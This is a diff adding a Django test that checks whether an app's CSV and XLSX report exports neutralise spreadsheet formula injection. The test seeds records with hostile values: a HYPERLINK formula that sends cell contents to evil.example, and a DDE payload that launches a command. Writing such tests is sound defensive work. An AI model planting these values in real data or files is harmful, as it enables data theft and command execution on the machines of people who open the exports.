@@ -141,3 +141,38 @@ def test_cached_figures_follow_the_language(client, in_force, centre_head):
     client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ru"
     russian = client.get(url).content.decode()
     assert "Routes by state" not in russian
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+def _hostile_names():
+    """Every name the reports print, as a formula a spreadsheet would run (issue #20, item 11)."""
+    from inclusion_centre.accounts.models import User
+    from routes.models import Adaptation
+    from students.models import Faculty, NeedCategory, Programme
+
+    for model in (Faculty, Programme, NeedCategory, Adaptation):
+        names = [field.name for field in model._meta.concrete_fields if field.name.startswith("name")]
+        model.objects.update(**dict.fromkeys(names, FORMULA))
+    User.objects.filter(groups__name="lecturer").update(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
+
+
+def _cells_starting_a_formula(cells) -> list:
+    return [cell for cell in cells if isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_exports_keep_names_that_look_like_formulas_as_text(client, in_force, centre_head):
+    _hostile_names()
+    client.force_login(centre_head)
+    response = client.get(reverse("routes:reports") + "?format=csv")
+    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
+    assert "'" + FORMULA in cells
+    assert _cells_starting_a_formula(cells) == []
+
+    workbook = load_workbook(io.BytesIO(client.get(reverse("routes:reports") + "?format=xlsx").content))
+    values = [cell for sheet in workbook for row in sheet.iter_rows(values_only=True) for cell in row]
+    assert "'" + FORMULA in values
+    assert _cells_starting_a_formula(values) == []
+    formulas = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == []
